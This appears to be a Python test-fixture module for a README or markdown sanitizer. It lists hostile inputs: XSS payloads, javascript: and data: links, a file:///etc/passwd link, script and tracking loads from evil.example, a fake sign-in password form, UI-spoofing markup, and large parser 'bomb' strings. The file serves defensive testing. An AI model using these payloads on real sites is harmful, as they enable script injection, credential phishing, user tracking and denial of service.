"""Readmes by somebody who wants to run script, load something, look like us, or keep us busy."""

SCRIPT = (
    "<script>alert(1)</script>",
    "a <script>alert(1)</script> b",
    "<script\n>alert(1)</script\n>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=`alert(1)`>",
    "<body onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example/x'></object>",
    "<embed src='https://evil.example/x'>",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='https://evil.example/x.css'?>",
    "<p\n\nonclick=alert(1)>x",
    "x<a\thref='javascript:alert(1)'>y</a>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\\<img src=x onerror=alert(1)\\>",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<img src=x onerror=alert(1)>\n```",
    '```js" onmouseover="alert(1)\nx\n```',
    "~~~</code></pre><script>alert(1)</script>\nx\n~~~",
    "| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
)

LINKS = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](ftp://evil.example)",
    "[x](//evil.example/x)",
    "[x](/account/keys)",
    "[x](../../sign-out)",
    "[x](?q=1)",
    "[x](https:evil)",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    '[x](https://evil.example "title\\" onmouseover=alert(1)")',
    "[x](https://evil.example/\"onmouseover='alert(1)')",
    "[x](http://[)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
)

PICTURES = (
    "![x](https://evil.example/x.png)",
    "![](https://evil.example/x.png)",
    "![x][y]\n\n[y]: https://evil.example/x.png",
    "[![x](https://evil.example/x.png)](https://evil.example)",
    "<img src='https://evil.example/x.png'>",
    "<img srcset='https://evil.example/x.png 2x'>",
    "<picture><source srcset='https://evil.example/x.png'></picture>",
    "<video src='https://evil.example/x.mp4' poster='https://evil.example/x.png'></video>",
    "<audio src='https://evil.example/x.mp3' autoplay></audio>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
    "<p style='background: url(https://evil.example/x.png); position: fixed'>x</p>",
    "<table background='https://evil.example/x.png'></table>",
)

DISGUISES = (
    "<div class='notice breaks' id=content>Your key ended. <a class='button first'>Renew</a></div>",
    "</div></main><footer>gone</footer>",
    "</section></article><h1>Sign in</h1>",
    "# content\n\n## manage\n\n[skip](#content)",
    "```notice breaks\nx\n```",
    "```language-x secret\nx\n```",
)

EVERY = (*LINKS, *PICTURES, *DISGUISES, *SCRIPT)

SIZE = 200_000


def _repeated(text: str) -> str:
    return text * (SIZE // len(text))


BOMBS = {
    "brackets": _repeated("["),
    "brackets in paragraphs": _repeated("[" * 4000 + "\n\n"),
    "quotes": _repeated("> "),
    "lists": _repeated("- "),
    "emphasis": _repeated("*a_ "),
    "comments": _repeated("<!--"),
    "open tags": _repeated("<div>\n"),
    "tags and space": _repeated("<div>\n\n"),
    "references": _repeated("[a]: x\n"),
    "entities": _repeated("&#x26;"),
    "headings": _repeated("# a\n"),
    "wide tables": _repeated("|a" * 200 + "|\n" + "|-" * 200 + "|\n" + "|\n" * 300 + "\n"),
    "heads of tables": _repeated("a|b\n-|-\n"),
    "one line of code": "```\n" + _repeated("&"),
    "words of many bytes": _repeated("漢字"),
    "links": _repeated("[a](http://b) "),
}
